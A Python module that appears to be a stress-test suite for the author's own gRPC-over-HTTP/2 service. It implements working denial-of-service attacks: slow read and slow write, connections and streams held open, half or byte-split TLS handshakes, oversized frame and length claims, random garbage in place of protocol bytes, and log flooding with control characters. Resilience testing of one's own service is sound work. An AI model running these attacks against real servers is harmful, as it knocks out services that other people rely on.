"""Attacks that hold something and wait, or send what is not the protocol. Same conventions as floods.py."""
import hashlib
import random
import resource
import ssl
import struct
import time

from floods import again
from http2 import (DATA, END_HEADERS, END_STREAM, HEADERS, HEALTH, INITIAL_WINDOW_SIZE, PREFACE, SERVICE, Closed, Line, field, frame,
                   message, request, settings)

CONNECTIONS = 10_000  # in 30 s; fewer in less


def nothing(_, stop, tally):
    """No attack: a process that computes. What this costs is the price of sharing cores, not of an attack."""
    while time.monotonic() < stop:
        hashlib.sha256(bytes(65536)).digest()
        tally["hashes"] += 1


def most_files():
    """Connections that this process may hold at a time."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return min(hard, 30_000) - 200 if hard != resource.RLIM_INFINITY else 20_000


def is_closed(sock):
    """Without waiting. What the server sent is dropped."""
    try:
        while sock.recv(65536):
            pass
        return True
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        return False
    except OSError:
        return True


def slow_read(target, stop, tally):
    """Requests with a window of 0: the answers stay in the server, connection after connection."""
    first = settings([(INITIAL_WINDOW_SIZE, 0)])
    held = []
    try:
        while time.monotonic() < stop:
            try:
                line = target.open(stop, first=first, reads=False)
                held.append(line)
                tally["connections"] += 1
                for stream in range(1, 201, 2):
                    line.send(frame(HEADERS, END_HEADERS, stream, request(SERVICE + ("Watch" if stream % 4 == 1 else "Greet")))
                              + frame(DATA, END_STREAM, stream, message(field(1, 2 if stream % 4 == 3 else 1))))
                    tally["frames"] += 2
            except Closed:
                tally["closed"] += 1
                time.sleep(0.01)
            if len(held) >= 200:
                time.sleep(0.2)
                held = [line for line in held if not is_closed(line.socket)]
    finally:
        for line in held:
            line.close()


def slow_write(target, stop, tally):
    """A byte per second: in the handshake, the preface, the headers, and a message; 200 connections."""
    whole = PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, request(SERVICE + "Greet")) + frame(
        DATA, END_STREAM, 1, message(field(1, 2)))
    starts = [0, 30, len(PREFACE) + 9 + 20, len(whole) - 4]
    hello = client_hello(target)
    held = []

    def one(number):
        try:
            if number % 5 == 4:
                sock = target.tcp()
                sock.setblocking(False)
                return sock, hello, 0
            line = Line(target.tcp() if target.tls is None else target.tls_socket(), stop)
            at = starts[number % 4]
            line.send(whole[:at])
            return line.socket, whole, at
        except Closed:
            tally["closed"] += 1
            return None

    while time.monotonic() < stop:
        begun, kept = time.monotonic(), []
        for sock, data, at in held:
            try:
                if at < len(data):
                    sock.send(data[at:at + 1])
                    tally["frames"] += 1
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except OSError:
                sock.close()
                continue
            if is_closed(sock):
                sock.close()
                tally["closed"] += 1
            else:
                kept.append((sock, data, at + 1))
        held = kept
        while len(held) < 200 and time.monotonic() < min(stop, begun + 1):
            if new := one(tally["connections"]):
                held.append(new)
            tally["connections"] += 1
        time.sleep(max(0.0, min(stop, begun + 1) - time.monotonic()))
    for sock, _, _ in held:
        sock.close()


def client_hello(target):
    """The first bytes of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        target.context().wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def slow_drip(target, stop, tally):
    """An upload that sends one byte now and then, on every stream that it is given."""
    def body(line):
        for stream in range(1, 33, 2):
            line.send(frame(HEADERS, END_HEADERS, stream, request(SERVICE + "Submit")))
        while line.left() > 0:
            line.send(b"".join(frame(DATA, 0, stream, b"\0") for stream in range(1, 33, 2)))
            tally["frames"] += 16
            line.wait(0.2)
    again(target, stop, tally, body)


def huge_length(target, stop, tally):
    """Messages that claim 4 GB and send what the window allows."""
    def body(line):
        for stream in range(1, 33, 2):
            line.send(frame(HEADERS, END_HEADERS, stream, request(SERVICE + ("Submit" if stream % 4 == 1 else "Greet")))
                      + frame(DATA, 0, stream, message(bytes(2000), length=2 ** 32 - 1)))
            tally["frames"] += 2
        line.wait(0.5)
    again(target, stop, tally, body)


def oversize_frame(target, stop, tally):
    """Frames that claim 16 MB."""
    def body(line):
        line.send(b"\xff\xff\xff" + struct.pack(">BBI", HEADERS, END_HEADERS, 1) + bytes(16384))
        while line.left() > 0 and line.send(bytes(16384)):
            tally["frames"] += 1
    again(target, stop, tally, body)


def held_streams(target, stop, tally):
    """Calls that are opened and never written to, as many as the server takes."""
    def body(line):
        for stream in range(1, 2001, 2):
            line.send(frame(HEADERS, END_HEADERS, stream, request(SERVICE + "Submit")))
            tally["frames"] += 1
        line.wait(1.0)
    again(target, stop, tally, body)


def health_watch(target, stop, tally):
    """Streams of the health service, which has no end, on connection after connection."""
    def opened(line):
        for stream in range(1, 201, 2):
            line.send(frame(HEADERS, END_HEADERS, stream, request(HEALTH + "Watch")) + frame(DATA, END_STREAM, stream, message(b"")))
            tally["frames"] += 2
    hold(target, stop, tally, lambda: target.open(stop), opened)


def hold(target, stop, tally, connect, then=None):
    """Opens connections at the rate of CONNECTIONS in 30 s and holds as many as the file limit allows."""
    most, held, begun, tried = most_files(), [], time.monotonic(), 0
    try:
        while (now := time.monotonic()) < stop:
            if tried >= (now - begun) * CONNECTIONS / 30:
                time.sleep(0.005)
                continue
            tried += 1
            try:
                line = connect()
                held.append(line)
                tally["connections"] += 1
                if then:
                    then(line)
            except Closed:
                tally["closed"] += 1
            if len(held) >= most:  # the next wave
                for line in held:
                    line.close()
                held = []
        tally["held"] = sum(not is_closed(getattr(line, "socket", line)) for line in held)
    finally:
        for line in held:
            line.close()


def quiet(sock):
    sock.setblocking(False)
    return sock


def connections_tcp(target, stop, tally):
    """Connections on which nothing is sent."""
    hold(target, stop, tally, lambda: quiet(target.tcp()))


def connections_hello(target, stop, tally):
    """Connections that send half of a handshake's first message."""
    hello = client_hello(target)

    def connect():
        sock = quiet(target.tcp())
        try:
            sock.send(hello[:len(hello) // 2])
        except OSError as error:
            raise Closed(str(error)) from error
        return sock
    hold(target, stop, tally, connect)


def connections_tls(target, stop, tally):
    """Handshakes, and then nothing."""
    context = target.context()
    hold(target, stop, tally, lambda: quiet(target.tls_socket(context)))


def connections_http2(target, stop, tally):
    """Handshake, preface and SETTINGS, and then nothing."""
    context = target.context()
    hold(target, stop, tally, lambda: target.open(stop, context=context))


def handshakes(target, stop, tally):
    """Handshake after handshake, each closed at once."""
    context = target.context()
    while time.monotonic() < stop:
        try:
            target.tls_socket(context).close()
            tally["connections"] += 1
        except Closed:
            tally["closed"] += 1


def raw(target, stop, tally, make):
    """Bytes of make() on TCP connections, without TLS."""
    while time.monotonic() < stop:
        line = None
        try:
            line = Line(target.tcp(), stop)
            tally["connections"] += 1
            for _ in range(16):
                if line.left() <= 0 or not line.send(make()):
                    break
                tally["frames"] += 1
            line.wait(0.05)
        except Closed:
            tally["closed"] += 1
        finally:
            if line is not None:
                line.close()


def garbage_tcp(target, stop, tally):
    """Random bytes instead of TLS."""
    draw = random.Random(1)
    raw(target, stop, tally, lambda: draw.randbytes(4096))


def garbage_records(target, stop, tally):
    """TLS records with random content, of every type."""
    draw = random.Random(1)
    raw(target, stop, tally, lambda: bytes([draw.randrange(20, 25), 3, draw.randrange(0, 5)]) + b"\x04\x00" + draw.randbytes(1024))


def plain_http2(target, stop, tally):
    """HTTP/2 without TLS."""
    raw(target, stop, tally, lambda: PREFACE + settings() + frame(HEADERS, END_HEADERS | END_STREAM, 1, request(SERVICE + "Watch")))


def garbage_http2(target, stop, tally):
    """Random bytes instead of the preface, and after it."""
    draw = random.Random(1)

    def body(line):
        line.send(draw.randbytes(4096))
        tally["frames"] += 1
        line.wait(0.02)
    again(target, stop, tally, body)


def http1(target, stop, tally):
    """HTTP/1.1 requests over TLS, with headers that never end."""
    while time.monotonic() < stop:
        line = None
        try:
            line = Line(target.tls_socket(target.context(alpn=("http/1.1",) if tally["connections"] % 2 else ())), stop)
            tally["connections"] += 1
            line.send(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n")
            for _ in range(64):
                line.send(b"X-Filler: " + b"a" * 8000 + b"\r\n")
                tally["frames"] += 1
        except Closed:
            tally["closed"] += 1
        finally:
            if line is not None:
                line.close()


def log_filling(target, stop, tally):
    """Names, run ids and digests of 300 KB with control characters: each refusal is a line of the log."""
    dirty = (b"\x1b[31m\r\n\0" * 40_000)[:60_000]
    header = message(field(1, field(1, dirty) + field(3, 1) + field(5, 8)))
    hello = message(field(1, 2) + field(2, dirty))
    join = message(field(1, 2) + field(2, dirty) + field(3, 5) + field(4, 5))

    def body(line):
        for stream in range(1, 2 ** 20, 2):
            if line.left() <= 0:
                return
            call, content = (("Submit", header), ("Greet", hello), ("Attend", join))[stream // 2 % 3]
            parts = b"".join(frame(DATA, 0, stream, content[i:i + 16384]) for i in range(0, len(content), 16384))
            line.send(frame(HEADERS, END_HEADERS, stream, request(SERVICE + call, [(b"mfl-node", b"x" * 200)] if stream % 8 == 1 else ()))
                      + parts + frame(DATA, END_STREAM, stream))
            tally["frames"] += 6
            line.wait(0.002)
    again(target, stop, tally, body)


def split_handshake(target, stop, tally):
    """Handshakes in records of one byte."""
    def connect():
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = target.context().wrap_bio(incoming, outgoing)
        sock = target.tcp(1.0)
        sock.settimeout(0.5)
        try:
            while time.monotonic() < stop:
                try:
                    tls.do_handshake()
                    return
                except ssl.SSLWantReadError:
                    pass
                data = outgoing.read()
                while len(data) > 5:  # one record after another, its content a byte at a time
                    kind, length = data[:3], int.from_bytes(data[3:5], "big")
                    body, data = data[5:5 + length], data[5 + length:]
                    step = 1 if kind[0] == 22 else length
                    sock.sendall(b"".join(kind + len(body[i:i + step]).to_bytes(2, "big") + body[i:i + step]
                                          for i in range(0, length, step)))
                got = sock.recv(65536)
                if not got:
                    raise Closed("closed by the server")
                incoming.write(got)
        except OSError as error:
            raise Closed(str(error)) from error
        finally:
            sock.close()
    while time.monotonic() < stop:
        try:
            connect()
            tally["connections"] += 1
        except Closed:
            tally["closed"] += 1
